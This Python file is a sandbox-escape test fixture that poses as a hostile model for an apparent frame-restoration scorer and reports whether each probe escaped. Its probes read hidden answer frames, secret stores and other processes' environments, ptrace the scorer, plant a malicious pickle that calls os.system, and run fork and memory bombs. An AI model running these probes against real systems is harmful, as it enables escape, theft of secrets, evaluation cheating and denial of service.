"""What a hostile model file would try: each function returns what it could do, in words.

This file is put before one call of `perform` and handed in as a model; it needs nothing but Python.
"""

from __future__ import annotations

import ctypes
import os
import pickle
import signal
import socket
import stat
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

Facts = dict[str, Any]


def perform(name: str, facts: Facts) -> None:
    """Try something and end with what came of it."""
    done = PROBES[name](facts)
    raise SystemExit(f"ESCAPED: {'; '.join(done)}" if done else "HELD")


def read_truth(facts: Facts) -> list[str]:
    """Read the clean frames by their path, by /proc, and by looking for them everywhere."""
    ways = (facts["truth"], f"/proc/1/root{facts['truth']}", f"/proc/self/root{facts['truth']}")
    done = [f"read {way}" for way in ways if _can(lambda way=way: Path(way).read_bytes())]
    name = facts["truth_name"]
    for root in facts["roots"]:
        for folder, inside, files in os.walk(root):
            inside[:] = [one for one in inside if one != "site-packages"]  # thousands of files
            done += [f"found {folder}/{name}"] if name in files else []
    return done


def write_repository(facts: Facts) -> list[str]:
    """Change the program's own files, or put new ones beside them."""
    file = Path(facts["package"], "__init__.py")
    done = [f"wrote {file}"] if _can(lambda: file.open("a").close()) else []
    new = file.with_name("evil.py")
    done += [f"made {new}"] if _can(lambda: new.write_text("")) else []
    return done + ([f"changed {file}"] if _can(lambda: file.chmod(0o777)) else [])


def write_inputs(facts: Facts) -> list[str]:
    """Change the snowy frames, or the model's own file, which others will open."""
    done = []
    for path in map(Path, facts["inputs"]):
        for act in (lambda p=path: p.open("r+b").close(), path.unlink, lambda p=path: p.chmod(0)):
            done += [f"changed {path}"] if _can(act) else []
    return done


def connect_loopback(facts: Facts) -> list[str]:
    """Connect to what listens on this machine: by TCP, and by an abstract Unix socket."""
    tcp = _can(lambda: socket.create_connection(("127.0.0.1", facts["port"]), 2))
    unix = socket.socket(socket.AF_UNIX)
    abstract = _can(lambda: unix.connect(f"\0{facts['abstract']}"))
    return ["connected to the loopback"] * tcp + ["connected to a Unix socket"] * abstract


def connect_outside(facts: Facts) -> list[str]:
    """Reach other machines by TCP, UDP and raw packets."""
    done = ["connected"] * _can(lambda: socket.create_connection(("192.0.2.1", 80), 2))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    done += ["sent a datagram"] * _can(lambda: udp.sendto(b"x", ("192.0.2.1", 53)))
    raw = ["opened a raw socket"]
    return done + raw * _can(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))


def resolve_names(facts: Facts) -> list[str]:
    """Look names up, which can carry data out."""
    done = ["resolved a name"] * _can(lambda: socket.getaddrinfo("example.com", 80))
    return done + ["read the name servers"] * _can(lambda: Path("/etc/resolv.conf").read_bytes())


def read_other_processes(facts: Facts) -> list[str]:
    """Read the environment and the memory of other processes."""
    done = []
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit():
            with_secret = _text(folder / "environ") + _text(folder / "cmdline")
            done += [f"read the secret in {folder}"] if facts["secret"] in with_secret else []
            visible = int(folder.name) == facts["host_pid"] and folder.name != str(os.getpid())
            done += [f"sees process {folder.name}"] if visible else []
    return done


def disturb_processes(facts: Facts) -> list[str]:
    """Stop, kill or trace the process that waits for the frames."""
    done = ["signalled the scorer"] * _can(lambda: os.kill(facts["host_pid"], signal.SIGCONT))
    libc = ctypes.CDLL(None, use_errno=True)
    attached = libc.ptrace(16, facts["host_pid"], 0, 0) == 0
    lowered = _can(lambda: os.setpriority(os.PRIO_PROCESS, facts["host_pid"], 19))
    return done + ["traced the scorer"] * attached + ["slowed the scorer"] * lowered


def read_secrets(facts: Facts) -> list[str]:
    """Look for tokens in the environment and in the places where people keep them."""
    done = [f"${name}" for name, value in os.environ.items() if facts["secret"] in value]
    places = (".ssh", ".netrc", ".aws", ".config", ".cache/huggingface", ".git-credentials")
    for home in {facts["home"], "/root", *map(str, Path("/home").glob("*"))}:
        done += [f"{home}/{place}" for place in places if Path(home, place).exists()]
    return done + [path for path in ("/etc/passwd", "/etc/shadow") if Path(path).exists()]


def inherit_files(facts: Facts) -> list[str]:
    """Use files that the scorer has open."""
    done = []
    for number in range(1024):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if not stat.S_ISFIFO(mode):
            done.append(f"file {number}: {Path(f'/proc/self/fd/{number}').readlink()}")
    return [told for told in done if "null" not in told and __file__ not in told]


def gain_rights(facts: Facts) -> list[str]:
    """Become root of new namespaces, mount, make device nodes, change the kernel's settings."""
    libc = ctypes.CDLL(None, use_errno=True)
    names = {0x10000000: "user", 0x20000: "mount", 0x40000000: "network"}
    done = [f"made a {name} namespace" for flag, name in names.items() if libc.unshare(flag) == 0]
    done += ["mounted"] * (libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
    node = stat.S_IFBLK | 0o600
    done += ["made a device"] * _can(lambda: os.mknod("/tmp/disk", node, os.makedev(254, 0)))
    for name in ("kernel/core_pattern", "kernel/hostname", "vm/overcommit_memory"):
        path = f"/proc/sys/{name}"
        done += [f"may write {path}"] * _can(lambda path=path: os.open(path, os.O_WRONLY))
    done += ["has a terminal"] * _can(lambda: os.open("/dev/tty", os.O_RDWR))
    status = _text(Path("/proc/self/status"))
    return done + [line for line in status.splitlines() if line[:7] == "CapEff:" and "1" in line]


def fill_disk(facts: Facts) -> list[str]:
    """Write wherever it is possible until nothing more fits."""
    done, block = [], bytes(2**20)
    for folder in ("/tmp", "/dev/shm", "/", "/dev", "/proc", "/model", "/usr", "/var/tmp", "/home"):
        written = 0
        try:
            with Path(folder, "filler").open("wb") as file:
                while written <= 2 * facts["scratch"]:
                    written += file.write(block)
        except OSError:
            pass
        if written > facts["scratch"] + len(block):
            done.append(f"wrote {written} bytes into {folder}")
    return done


def plant_links(facts: Facts) -> list[str]:
    """Leave links where restored frames would be, so that the scorer reads or writes elsewhere."""
    for folder in ("/tmp", "/dev/shm", "/model", "/", "/out", "/tmp/out"):
        _can(lambda folder=folder: Path(folder, "0000.png").symlink_to(facts["truth"]))
    _send(b"F" + facts["truth"].encode())
    os._exit(0)


def send_too_much(facts: Facts) -> list[str]:
    """Answer with zeros without end."""
    while True:
        _send(bytes(2**20))


def send_endless_frames(facts: Facts) -> list[str]:
    """Answer with more frames than were asked for."""
    while True:
        _send(b"F" + bytes(facts["frame_bytes"]))


def send_endless_excuse(facts: Facts) -> list[str]:
    """Answer with a failure that is told at length."""
    _send(b"E")
    while True:
        _send(b"[" * 2**20)


def send_pickle(facts: Facts) -> list[str]:
    """Answer with a pickle that runs code where it is opened."""

    class Bomb:
        def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
            return os.system, (f"touch {facts['marker']}",)

    _send(facts["before"].encode() + pickle.dumps(Bomb()))
    os._exit(0)


def bomb_forks(facts: Facts) -> list[str]:
    """Start processes that start processes."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        _can(os.fork)


def bomb_memory(facts: Facts) -> list[str]:
    """Take all the memory, in processes that each take little."""
    held = []
    while True:
        if len(held) < 20 and os.fork() == 0:
            held.append(b"\1" * facts["share"])
            time.sleep(600)
        held.append(b"")
        time.sleep(0.01)


def stay(facts: Facts) -> list[str]:
    """Never end: ignore what can be ignored, leave children in sessions of their own."""
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                Path("/tmp/alive").write_text("")
                time.sleep(600)
    time.sleep(600)
    return []


PROBES: dict[str, Callable[[Facts], list[str]]] = {
    probe.__name__: probe
    for probe in (
        *(read_truth, write_repository, write_inputs, connect_loopback, connect_outside),
        *(resolve_names, read_other_processes, disturb_processes, read_secrets, inherit_files),
        *(gain_rights, fill_disk, plant_links, send_too_much, send_endless_frames),
        *(send_endless_excuse, send_pickle, bomb_forks, bomb_memory, stay),
    )
}


def _can(act: Callable[[], object]) -> bool:
    try:
        act()
    except (OSError, ValueError):
        return False
    return True


def _text(path: Path) -> str:
    try:
        return path.read_text(errors="replace")
    except OSError:
        return ""


def _send(data: bytes) -> None:
    """Write to every pipe that this process has but its input, the scorer's among them."""
    for number in _pipes():
        rest = memoryview(data)
        while rest:
            rest = rest[os.write(number, rest) :]


def _pipes() -> Iterator[int]:
    for number in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                yield number
        except OSError:
            continue
